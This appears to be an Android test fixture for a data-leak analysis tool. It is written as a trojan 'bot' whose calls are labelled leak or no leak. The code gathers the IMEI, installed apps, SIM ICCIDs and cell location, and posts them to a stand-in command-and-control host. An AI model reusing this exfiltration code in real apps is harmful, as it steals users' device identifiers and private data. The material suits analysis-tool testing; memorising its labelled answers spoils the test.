package trojans;

import android.app.Activity;
import android.content.Context;
import android.content.pm.ApplicationInfo;
import android.os.Build;
import android.os.Bundle;
import android.telephony.CellLocation;
import android.telephony.SubscriptionInfo;
import android.telephony.SubscriptionManager;
import android.telephony.TelephonyManager;
import android.telephony.gsm.GsmCellLocation;
import com.google.gson.Gson;
import com.google.gson.annotations.SerializedName;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import retrofit2.Call;
import retrofit2.Retrofit;
import retrofit2.http.Body;
import retrofit2.http.GET;
import retrofit2.http.POST;
import retrofit2.http.QueryMap;

/** A bot that introduces itself. */
public class Ids extends Activity {
    interface Gate {
        @POST("register")
        Call<Void> register(@Body Bot bot);

        @GET("ping")
        Call<Void> ping(@QueryMap Map<String, String> query);
    }

    static class Bot {
        @SerializedName("a")
        String imei;
        @SerializedName("b")
        String operator;
        @SerializedName("c")
        List<String> apps = new ArrayList<>();

        Bot operator(String value) {
            operator = value;
            return this;
        }
    }

    @Override
    protected void onStart() {
        super.onStart();
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        Gate gate = new Retrofit.Builder().baseUrl("http://c2.example.invalid/").build().create(Gate.class);
        Bot bot = new Bot().operator("none");
        gate.register(bot).enqueue(null); // no leak
        bot.imei = Build.VERSION.SDK_INT < 26 ? phone.getDeviceId() : phone.getImei(0);
        for (ApplicationInfo one : getPackageManager().getInstalledApplications(128)) {
            if ((one.flags & ApplicationInfo.FLAG_SYSTEM) == 0) {
                bot.apps.add(one.loadLabel(getPackageManager()) + "/" + one.packageName);
            }
        }
        gate.register(bot).enqueue(null); // leak
        Map<String, String> query = new LinkedHashMap<>();
        query.put("v", "1");
        gate.ping(query).enqueue(null); // no leak
        SubscriptionManager cards = (SubscriptionManager) getSystemService("telephony_subscription_service");
        for (SubscriptionInfo card : cards.getActiveSubscriptionInfoList()) {
            query.put("s" + card.getSimSlotIndex(), card.getIccId());
        }
        gate.ping(query).enqueue(null); // leak
        android.util.Log.i("bot", new Gson().toJson(cell(phone))); // leak
    }

    private static Map<String, Integer> cell(TelephonyManager phone) {
        Map<String, Integer> out = new LinkedHashMap<>();
        CellLocation where = phone.getCellLocation();
        if (where instanceof GsmCellLocation) {
            out.put("cid", ((GsmCellLocation) where).getCid());
            out.put("lac", ((GsmCellLocation) where).getLac());
        }
        return out;
    }

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
    }
}
